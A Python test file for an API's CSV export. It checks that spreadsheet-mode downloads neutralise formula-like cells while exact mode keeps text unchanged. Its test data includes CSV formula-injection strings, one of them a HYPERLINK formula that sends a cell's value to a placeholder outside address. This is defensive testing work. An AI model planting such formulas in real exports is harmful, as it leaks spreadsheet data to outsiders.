"""CSV for programs, exact, and for people, in which no cell is a formula."""

import csv
import io
import re
from pathlib import Path

import pytest
from falcon.testing import TestClient

from tests.support.stored.stored import Stored
from text.spreadsheet import CsvKind, guarded


FORMULAS = [
    '=HYPERLINK("http://192.0.2.1/?"&A1,"details")',
    *("+1+1", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "\n=1"),
    *("＝1", "＋1", "－1", "＠A"),  # noqa: RUF001 - the wide ones
]
PLAIN = ["hosts", "a=1", " =1", "'quoted", "5", 'with "quotes", and commas']
ROOT = Path(__file__).parents[3]
CSV = {"Accept": "text/csv"}
#: As a browser's address bar sends it.
BROWSER = {"Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"}
#: Whole, written by PostgreSQL; narrowed; a page; the clients' shape; over all runs.
HISTORIES = [
    "/api/transactions/1/deployment_history/?",
    "/api/transactions/1/deployment_history/?statuses=ready&",
    "/api/transactions/1/deployment_history/?limit=100&",
    "/api/v1/transactions/1/deployment_history/?",
    "/api/nodes/-5/deployment_history/?",
]


@pytest.fixture(autouse=True)
def _run(stored: Stored) -> None:
    stored.transaction()
    stored.entries(1, [("-5", name, "ready") for name in (*FORMULAS, *PLAIN)])


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def names(text: str) -> list[str]:
    return [
        row.get("task_name") or row["deployment_graph_task_name"] for row in rows(text)
    ]


@pytest.mark.parametrize("path", HISTORIES)
def test_programs_get_every_text_as_it_is(api: TestClient, path: str) -> None:
    answer = api.simulate_get(path, headers=CSV)

    assert sorted(names(answer.text)) == sorted([*FORMULAS, *PLAIN])
    assert answer.content == api.simulate_get(f"{path}csv=exact").content


@pytest.mark.parametrize("path", HISTORIES)
def test_people_get_no_formula(api: TestClient, path: str) -> None:
    text = api.simulate_get(f"{path}csv=spreadsheet").text

    assert text.startswith("\ufeff")
    found = names(text[1:])
    assert sorted(found) == sorted([*("'" + name for name in FORMULAS), *PLAIN])
    assert {row["node_id"] for row in rows(text[1:])} == {"'-5"}


def test_an_address_in_a_browser_is_for_people_unless_it_says_otherwise(
    api: TestClient,
) -> None:
    path = f"{HISTORIES[0]}csv="
    both = {"Accept": "text/html, text/csv;q=0.5"}

    spreadsheet = api.simulate_get(f"{path}spreadsheet", headers=BROWSER)
    exact = api.simulate_get(f"{path}exact", headers=BROWSER)

    assert spreadsheet.content == api.simulate_get(HISTORIES[0], headers=both).content
    assert exact.content == api.simulate_get(HISTORIES[0], headers=CSV).content


@pytest.mark.parametrize(
    ("parameter", "headers", "status", "told"),
    [
        ("csv=excel", {}, 400, "csv must be one of: exact, spreadsheet"),
        ("csv=exact", {"Accept": "application/json"}, 415, "Accept must be text/csv"),
    ],
)
def test_what_cannot_be_is_refused(
    api: TestClient, parameter: str, headers: dict[str, str], status: int, told: str
) -> None:
    answer = api.simulate_get(f"{HISTORIES[0]}{parameter}", headers=headers)

    assert (answer.status_code, answer.json["message"]) == (status, told)


def test_a_heading_that_was_asked_for_is_no_formula(api: TestClient) -> None:
    path = f'{HISTORIES[3]}fields=%3D1%2B1,a"b&csv='

    assert "'=1+1" in rows(api.simulate_get(f"{path}spreadsheet").text[1:])[0]
    assert set(rows(api.simulate_get(f"{path}exact").text)[0]) == {"=1+1", 'a"b'}


def test_dead_reports_are_no_formulas(api: TestClient, stored: Stored) -> None:
    stored.dead(b"{}", reason="=1+1")
    path = "/api/dead_reports/?fields=reason&csv="

    assert api.simulate_get(f"{path}spreadsheet").text == "\ufeffreason\r\n'=1+1\r\n"
    assert api.simulate_get(f"{path}exact").text == "reason\r\n=1+1\r\n"


def test_the_page_guards_the_same_texts() -> None:
    source = (ROOT / "web/src/run/csv.ts").read_text()
    found = re.search(r"const FORMULA = /(.*)/;", source)

    assert found is not None
    # A class of characters is written alike in both languages.
    formula = re.compile(found[1])
    characters = [*map(chr, range(0xD800)), *map(chr, range(0xE000, 0x10000))]
    differing = [c for c in characters if bool(formula.match(c)) != (guarded(c) != c)]
    assert differing == []
    assert list(CsvKind) == ["exact", "spreadsheet"]
